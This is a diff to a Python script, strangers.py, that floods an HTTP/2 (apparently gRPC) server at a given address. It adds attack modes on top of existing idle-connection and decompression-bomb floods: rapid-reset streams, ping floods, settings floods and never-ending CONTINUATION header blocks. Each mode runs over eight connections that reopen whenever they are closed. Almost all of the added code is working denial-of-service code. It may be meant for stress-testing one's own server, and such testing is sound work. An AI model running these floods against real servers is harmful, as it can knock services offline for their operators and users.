@@ -8,6 +8,8 @@ usage: strangers.py ADDRESS SECONDS      prints one JSON line: what was sent, by
 - connections: up to 1,500 that say nothing, or nothing after the first frame, opened again when they are closed.
 - streams: health watches, as many as the server allows on each of ten connections.
 - compressed: fifty connections at a time with four health checks each, whose 15 KB would swell to 15 MiB.
+- resets, pings, settings, continuations: eight connections each with nothing but calls that are canceled at once, pings,
+  settings, or header blocks that never end. They are no part of the default.
 """
 
 from __future__ import annotations
@@ -15,16 +17,17 @@ from __future__ import annotations
 import asyncio
 import json
 import socket
+import ssl
 import struct
 import sys
 import time
 import zlib
 from collections import Counter
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import suppress
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
+_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
 _END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
 _LARGE = 16 << 20
 _CHUNK = b"\x0a\x00" * 8192
@@ -202,6 +205,70 @@ async def keep_swelling(host: str, port: int) -> None:
             SENT["connections_refused"] += 1
 
 
+def reset_calls(first: int) -> bytes:
+    """A hundred calls that are canceled at once. first: stream of the first."""
+    block, canceled = headers(PREPARE), struct.pack(">I", 8)
+    return b"".join(
+        frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RESET, 0, stream, canceled)
+        for stream in range(first, first + 200, 2)
+    )
+
+
+def continued(_first: int) -> bytes:
+    return frame(_CONTINUATION, 0, 1, (b"\x00\x01a\x7f" + b"\x00" + b"a" * 127) * 60) * 10
+
+
+def pings(_first: int) -> bytes:
+    return frame(_PING, 0, 0, bytes(8)) * 200
+
+
+def settings(_first: int) -> bytes:
+    return frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 200
+
+
+FRAMES: dict[str, tuple[bytes, Callable[[int], bytes]]] = {
+    "resets": (b"", reset_calls),
+    "pings": (b"", pings),
+    "settings": (b"", settings),
+    "continuations": (frame(_HEADERS, 0, 1, headers(PREPARE)), continued),
+}
+
+
+async def keep_sending(host: str, port: int, kind: str, tls: ssl.SSLContext | None = None, source: str = "") -> None:
+    """Send frames of a kind as fast as the server reads them, whatever it answers; connect again when it closes.
+
+    source: our own address.
+    """
+    local = (source, 0) if source else None
+    first, more = FRAMES[kind]
+    while True:
+        writer = None
+        try:
+            reader, writer = await asyncio.open_connection(host, port, ssl=tls, local_addr=local)
+            SENT[f"{kind}_connections"] += 1
+            reading = asyncio.ensure_future(_read_all(reader))
+            writer.write(_PREFACE + frame(_SETTINGS, 0, 0) + first)
+            stream = 1
+            while not reading.done():
+                writer.write(more(stream))
+                SENT[f"{kind}_sent"] += 1
+                stream += 200
+                await writer.drain()
+                await asyncio.sleep(0)
+        except OSError:
+            SENT["connections_refused"] += 1
+        finally:
+            if writer is not None:
+                writer.transport.abort()
+        await asyncio.sleep(0.01)
+
+
+async def _read_all(reader: asyncio.StreamReader) -> None:
+    with suppress(OSError):
+        while await reader.read(65_536):
+            pass
+
+
 async def flood(host: str, port: int, seconds: float, kinds: list[str]) -> None:
     made = {
         "large": [keep(host, port, "large", PREPARE_MANY, 4, _LARGE) for _ in range(4)],
@@ -214,6 +281,7 @@ async def flood(host: str, port: int, seconds: float, kinds: list[str]) -> None:
         ],
         "streams": [keep(host, port, "streams", WATCH, 1000, 0, False, True) for _ in range(10)],
         "compressed": [keep_swelling(host, port) for _ in range(50)],
+        **{kind: [keep_sending(host, port, kind) for _ in range(8)] for kind in FRAMES},
     }
     for kind, each in made.items():
         if kind not in kinds:
